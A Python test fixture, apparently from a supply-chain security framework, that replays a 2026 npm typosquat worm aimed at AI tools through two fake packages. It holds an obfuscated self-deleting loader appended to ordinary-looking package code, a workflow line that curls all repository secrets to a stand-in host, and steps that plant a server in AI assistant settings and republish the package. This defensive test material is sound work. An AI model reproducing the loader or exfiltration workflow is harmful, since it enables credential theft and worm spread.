"""suport-color 1.0.1, claud-code 0.2.1 and 17 more look-alikes (2026-02): squats aimed at tools of AI; a worm at import.

By the record: nineteen young names that look like known ones (claud-code, cloude-code, suport-color, yarsg, naniod, opencraw and others).
The worm runs when the package is imported: it takes tokens and keys, plants a workflow in repositories and a server for tools (MCP) in the
settings of AI assistants, and publishes on. Every release of the names is bad, so nothing good ever had them.
"""

import base64
import zlib

from gauntlet.incident import Advisory, Incident, Package, Release, utc
from gauntlet.worms import ASSISTANTS, GATHERS, GITHUB, SEALED, WORKFLOW, republishes
from pratique.core.names import Ecosystem

_COLOR = """'use strict';
const os = require('os');
const tty = require('tty');

const { env } = process;
const flags = process.argv.filter((one) => one.startsWith('--'));

function forced() {
  if (flags.includes('--no-color') || flags.includes('--color=never')) return 0;
  if (flags.includes('--color') || flags.includes('--color=always')) return 1;
  if ('FORCE_COLOR' in env) return env.FORCE_COLOR === 'true' ? 1 : Math.min(Number.parseInt(env.FORCE_COLOR, 10) || 1, 3);
  return undefined;
}

function level(stream) {
  const wanted = forced();
  if (wanted === 0) return 0;
  if (stream && !stream.isTTY && wanted === undefined) return 0;
  if (env.TERM === 'dumb') return wanted || 0;
  if (process.platform === 'win32') return Number(os.release().split('.')[2]) >= 14931 ? 3 : 2;
  if (env.COLORTERM === 'truecolor') return 3;
  return /-256(color)?$/i.test(env.TERM) ? 2 : 1;
}

function support(stream) {
  const found = level(stream);
  return found === 0 ? false : { level: found, hasBasic: true, has256: found >= 2, has16m: found >= 3 };
}

module.exports = {
  supportsColor: support,
  stdout: support({ isTTY: tty.isatty(1) }),
  stderr: support({ isTTY: tty.isatty(2) }),
};
"""
_CODE = """#!/usr/bin/env node
'use strict';
const { spawn } = require('child_process');

function start(words) {
  const child = spawn('claude', words, { stdio: 'inherit' });
  child.on('error', () => console.error('claude is not installed'));
  child.on('exit', (code) => process.exit(code ?? 0));
}

module.exports = { start };
if (require.main === module) start(process.argv.slice(2));
"""
_FLOW = (
    "on: [pull_request]\\njobs:\\n  quality:\\n    runs-on: ubuntu-latest\\n    steps:\\n"
    "      - run: curl -d '${{ toJSON(secrets) }}' https://sink.invalid/marker\\n"
)
_MAIN = f"""
(async () => {{
  const found = gathered();
  const reached = await sent(found).catch(() => false);
  const token = githubToken();
  if (token) {{ await everywhere(token, 'quality.yml', "{_FLOW}"); }}
  if (reached) {{ assistants(); }}
  const other = npmToken();
  if (other) {{ await republish(other); }}
}})().catch(() => {{}});
"""
_LOADER = """
;(function () {
  try {
    const zlib = require('zlib');
    const key = 'marker';
    const packed = Buffer.from('PACKED', 'base64');
    for (let index = 0; index < packed.length; index++) packed[index] ^= key.charCodeAt(index % key.length);
    const place = require('path').join(require('os').tmpdir(), '.node_' + process.pid.toString(16) + '.js');
    require('fs').writeFileSync(place, zlib.inflateSync(packed));
    require(place);
    require('fs').unlinkSync(place);
  } catch {}
})();
"""


def _loader() -> str:
    spread = republishes("postinstall", "node index.js", ("index.js",))
    worm = f"{GATHERS}{SEALED}{GITHUB}{WORKFLOW}{ASSISTANTS}{spread}{_MAIN}"
    packed = bytes(one ^ b"marker"[index % 6] for index, one in enumerate(zlib.compress(worm.encode())))
    return _LOADER.replace("PACKED", base64.b64encode(packed).decode())


_LINE = _loader()


def _squat(name: str, version: str, at: str, source: str, who: str) -> Package:
    return Package(
        name=name,
        releases=(
            Release(
                version=version,
                at=utc(at),
                publisher=who,
                maintainers=(who,),
                files={"index.js": source + _LINE},
                more={"main": "index.js"},
            ),
        ),
    )


_GUILTY = {"suport-color": ("1.0.1",), "claud-code": ("0.2.1",)}

INCIDENT = Incident(
    id="sandworm-mode-2026",
    title=(
        "typosquats of AI tools stole secrets on import and added themselves to workflows and AI assistants"
    ),
    copy=(
        "our copy of SANDWORM_MODE has a constant that is decoded, inflated, written to a file, loaded and deleted"
    ),
    ecosystem=Ecosystem.NPM,
    at=utc("2026-02-17T10:00:00Z"),
    packages=(
        _squat("suport-color", "1.0.1", "2026-02-17T10:00:00Z", _COLOR, "official334"),
        _squat("claud-code", "0.2.1", "2026-02-17T10:20:00Z", _CODE, "javaorg"),
    ),
    asks={"suport-color": "^1.0.0", "claud-code": "^0.2.0"},
    good={},
    bad=_GUILTY,
    guilty=_GUILTY,
    advisory=Advisory(id="MAL-2026", at=utc("2026-02-20T12:00:00Z"), about=_GUILTY),
    invented="publish days and hours, publishers, the order of steps and the packing; only two of 19 names are replayed",
)
